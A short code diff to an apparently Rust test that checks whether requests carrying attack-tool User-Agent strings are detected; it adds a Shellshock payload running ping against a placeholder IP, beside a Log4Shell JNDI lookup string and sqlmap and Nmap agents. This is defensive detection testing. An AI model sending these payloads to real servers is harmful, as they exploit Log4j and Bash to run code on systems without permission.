@@ -61,6 +61,7 @@ fn agents_of_attack_tools() {
         "x/1 PB (y)",
         "${jndi:ldap://203.0.113.9/a}",
         "sqlmap/1.7#stable",
+        "() { :;}; /bin/ping -c1 203.0.113.9",
         "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
     ] {
         let outcome = found(vec![request("GET", "example.com", "/", agent, "")]);
